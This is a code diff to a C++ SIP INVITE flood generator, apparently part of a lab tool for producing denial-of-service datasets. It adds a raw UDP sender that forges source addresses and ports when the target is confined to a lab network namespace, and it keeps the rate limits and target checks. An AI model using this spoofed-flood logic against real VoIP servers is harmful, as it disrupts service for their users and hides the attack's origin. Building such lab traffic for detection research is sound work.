@@ -7,17 +7,19 @@
 #include <cerrno>
 #include <cstdio>
 #include <cstring>
+#include <memory>
 
 #include "lab/attack_messages.h"
 #include "lab/loopback_sources.h"
 #include "lab/netns.h"
 #include "lab/pacer.h"
+#include "lab/raw_sender.h"
 #include "lab/source_sockets.h"
 #include "sim/rng.h"
 
 namespace lab {
 
-util::Status ValidateFloodOptions(const FloodOptions& o) {
+util::Status ValidateFloodOptions(const FloodOptions &o) {
   SIPDDOS_RETURN_IF_ERROR(CheckTarget(o.target, o.netns));
   if (!(o.rate >= 1 && o.rate <= 100000))
     return util::Status::Error("--rate " + std::to_string(o.rate) + ": must be 1..100000 INVITE/s");
@@ -36,7 +38,7 @@ util::Status ValidateFloodOptions(const FloodOptions& o) {
 
 namespace {
 
-uint16_t SourcePort(const FloodOptions& o) {
+uint16_t SourcePort(const FloodOptions &o) {
   if (o.source_port >= 0) return uint16_t(o.source_port);
   if (o.attack == dataset::Tool::kMimic) return 5060;
   sim::Rng rng(sim::Mix(o.seed, 0x706f7274ull));  // Mr.SIP: one random port per run
@@ -45,18 +47,42 @@ uint16_t SourcePort(const FloodOptions& o) {
 
 }  // namespace
 
-util::Status RunFlood(const FloodOptions& o, const std::atomic<bool>* stop, FloodStats* stats) {
+util::Result<std::vector<SourceSocket>> LabFloodSources(const FloodOptions &o) {
+  auto addresses = SpoofedSources(o.spoof, o.sources, o.seed, o.target.address.v4());
+  if (!addresses.ok()) return addresses.status();
+  const uint16_t port = SourcePort(o);
+  sim::Rng rng(sim::Mix(o.seed, 0x6b65726eull));  // "kernel-chosen": a seeded port each
+  std::vector<SourceSocket> out;
+  out.reserve(addresses->size());
+  for (uint32_t a : *addresses)
+    out.push_back({-1, a, port != 0 ? port : uint16_t(rng.Range(32768, 60999))});
+  return out;
+}
+
+util::Status RunFlood(const FloodOptions &o, const std::atomic<bool> *stop, FloodStats *stats) {
   *stats = FloodStats{};
   SIPDDOS_RETURN_IF_ERROR(ValidateFloodOptions(o));
   // Sockets belong to the namespace of the thread that opens them.
   if (!o.netns.empty()) SIPDDOS_RETURN_IF_ERROR(EnterNetns(o.netns));
   const uint32_t target = o.target.address.v4();
-  auto addresses = LoopbackSources(o.spoof, o.sources, o.seed, target);
-  if (!addresses.ok()) return addresses.status();
-  SourceSockets pool;
-  SIPDDOS_RETURN_IF_ERROR(pool.Open(*addresses, SourcePort(o)));
-  stats->sources = int(pool.size());
-  stats->port_fallbacks = pool.fallbacks();
+  const bool spoofed = IsLabTarget(o.target, o.netns);
+  SourceSockets pool;             // loopback: one bound socket per source
+  std::vector<SourceSocket> lab;  // lab: forged sources, nothing bound
+  std::unique_ptr<RawUdpSender> raw;
+  if (spoofed) {
+    auto sources = LabFloodSources(o);
+    if (!sources.ok()) return sources.status();
+    lab = std::move(*sources);
+    raw = std::make_unique<RawUdpSender>();
+    SIPDDOS_RETURN_IF_ERROR(raw->Open());
+  } else {
+    auto addresses = LoopbackSources(o.spoof, o.sources, o.seed, target);
+    if (!addresses.ok()) return addresses.status();
+    SIPDDOS_RETURN_IF_ERROR(pool.Open(*addresses, SourcePort(o)));
+    stats->port_fallbacks = pool.fallbacks();
+  }
+  const std::vector<SourceSocket> &socks = spoofed ? lab : pool.sockets();
+  stats->sources = int(socks.size());
 
   sockaddr_in dst{};
   dst.sin_family = AF_INET;
@@ -67,19 +93,22 @@ util::Status RunFlood(const FloodOptions& o, const std::atomic<bool>* stop, Floo
   text.reserve(4096);  // an INVITE is ~1 kB: no allocation inside the loop
 
   const Pacer pacer(o.rate, o.duration_s, MonotonicMicros());
-  const std::vector<SourceSocket>& socks = pool.sockets();
   for (int64_t k = 0; pacer.InRun(k); ++k) {
     if (!SleepUntil(pacer.Due(k), stop)) {
       stats->interrupted = true;
       break;
     }
-    const SourceSocket& s = socks[size_t(k % int64_t(socks.size()))];
+    const SourceSocket &s = socks[size_t(k % int64_t(socks.size()))];
     messages.Render(k, s.address, s.port, &text);
     ssize_t n;
-    do {
-      n = sendto(s.fd, text.data(), text.size(), 0, reinterpret_cast<const sockaddr*>(&dst),
-                 sizeof dst);
-    } while (n < 0 && errno == EINTR);
+    if (spoofed) {
+      n = raw->Send(s.address, s.port, target, o.target.port, text) ? ssize_t(text.size()) : -1;
+    } else {
+      do {
+        n = sendto(s.fd, text.data(), text.size(), 0, reinterpret_cast<const sockaddr *>(&dst),
+                   sizeof dst);
+      } while (n < 0 && errno == EINTR);
+    }
     if (n == ssize_t(text.size())) {
       ++stats->sent;
     } else {
@@ -95,7 +124,7 @@ util::Status RunFlood(const FloodOptions& o, const std::atomic<bool>* stop, Floo
   return util::Status::Ok();
 }
 
-std::string FormatSummary(const FloodOptions& o, const FloodStats& s) {
+std::string FormatSummary(const FloodOptions &o, const FloodStats &s) {
   char buf[320];
   std::snprintf(buf, sizeof buf,
                 "sent %lld INVITEs to %s in %.3f s: %.1f/s (nominal %g/s) from "
